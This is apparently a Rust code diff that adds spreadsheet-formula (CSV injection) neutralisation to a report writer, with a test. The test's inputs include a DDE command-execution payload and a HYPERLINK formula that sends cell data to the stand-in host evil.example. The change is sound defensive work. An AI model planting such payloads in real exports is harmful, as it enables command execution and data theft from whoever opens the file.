@@ -6,7 +6,10 @@
 //! lists one workspace; [`across`] lists several, at most `concurrency` at a
 //! time, entering each as the given [`FixedAnswers`] allow, and yields them
 //! in the order given, so at most `concurrency` listings are held at once.
-//! [`Writer`] writes rows as RFC 4180 CSV or as a JSON array.
+//! [`Writer`] writes rows as RFC 4180 CSV or as a JSON array. In CSV, a text
+//! cell that begins with `=`, `+`, `-`, `@`, TAB or CR gets a leading `'`
+//! (OWASP's advice against CSV injection), so a name chosen by whoever runs
+//! the room cannot become a formula in a spreadsheet; JSON stays exact.
 //!
 //! Rows are sorted by workspace, then by path (segment by segment, so a
 //! folder's contents follow it), then by the remaining key, so two reports
@@ -749,6 +752,32 @@ fn csv_error(e: csv::Error) -> Error {
     }
 }
 
+/// `row` as CSV fields, every text cell that a spreadsheet would read as a
+/// formula neutralised ([`crate::text::csv_cell`]). A cell that is a plain
+/// number (an id, a size) is a number, not text, and is left as it is.
+fn safe_record<R: Row>(row: &R) -> Result<csv::StringRecord> {
+    let mut scratch = csv::WriterBuilder::new()
+        .has_headers(false)
+        .from_writer(Vec::new());
+    scratch.serialize(row).map_err(csv_error)?;
+    let line = scratch.into_inner().map_err(|e| io(e.into_error()))?;
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(line.as_slice());
+    let mut fields = csv::StringRecord::new();
+    reader.read_record(&mut fields).map_err(csv_error)?;
+    Ok(fields
+        .iter()
+        .map(|cell| {
+            if cell.parse::<i64>().is_ok() || cell.parse::<f64>().is_ok_and(f64::is_finite) {
+                std::borrow::Cow::Borrowed(cell)
+            } else {
+                crate::text::csv_cell(cell)
+            }
+        })
+        .collect())
+}
+
 impl<W: Write> Writer<W> {
     /// Starts a report of `R` rows: writes the CSV header, or opens the JSON array.
     pub fn new<R: Row>(out: W, format: Format) -> Result<Self> {
@@ -773,7 +802,10 @@ impl<W: Write> Writer<W> {
     /// Writes one row.
     pub fn write<R: Row>(&mut self, row: &R) -> Result<()> {
         match &mut self.sink {
-            Sink::Csv(w) => w.serialize(row).map_err(csv_error),
+            Sink::Csv(w) => {
+                let record = safe_record(row)?;
+                w.write_record(&record).map_err(csv_error)
+            }
             Sink::Json { out, first } => {
                 let text = serde_json::to_string(row)
                     .map_err(|e| Error::InvalidInput(format!("cannot write a JSON row: {e}")))?;
@@ -816,6 +848,72 @@ mod tests {
             id: 1,
             name: "W".into(),
         }
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula_and_json_stays_exact() {
+        let names = [
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
+            "+Ann",
+            "@Org",
+            "\r=1+1",
+            "-2+3",
+            "\t=1",
+        ];
+        let mut w = Writer::new::<DocumentRow>(Vec::new(), Format::Csv).unwrap();
+        for (i, name) in names.iter().enumerate() {
+            w.write(&DocumentRow {
+                workspace_id: 1,
+                workspace_name: name.to_string(),
+                folder_path: format!("@{name}"),
+                name: name.to_string(),
+                id: i as i64,
+                file_size: Some(-1),
+                created_on: None,
+                last_modified_on: None,
+                version_number: None,
+                file_hash_download: Some("=A1".into()),
+                note: Some(name.to_string()),
+            })
+            .unwrap();
+        }
+        let text = w.finish().unwrap();
+        let mut r = csv::Reader::from_reader(text.as_slice());
+        let mut formulas = 0;
+        let mut rows = 0;
+        for record in r.records() {
+            let record = record.unwrap();
+            rows += 1;
+            for cell in record.iter() {
+                if cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                    && cell.parse::<i64>().is_err()
+                {
+                    formulas += 1;
+                }
+            }
+            assert_eq!(&record[3], format!("'{}", names[rows - 1]));
+            assert_eq!(&record[5], "-1", "a number stays a number");
+        }
+        assert_eq!((rows, formulas), (7, 0));
+
+        let mut w = Writer::new::<DocumentRow>(Vec::new(), Format::Json).unwrap();
+        w.write(&DocumentRow {
+            workspace_id: 1,
+            workspace_name: String::new(),
+            folder_path: String::new(),
+            name: names[0].into(),
+            id: 2,
+            file_size: None,
+            created_on: None,
+            last_modified_on: None,
+            version_number: None,
+            file_hash_download: None,
+            note: None,
+        })
+        .unwrap();
+        let json: serde_json::Value = serde_json::from_slice(&w.finish().unwrap()).unwrap();
+        assert_eq!(json[0]["name"], names[0]);
     }
 
     #[test]
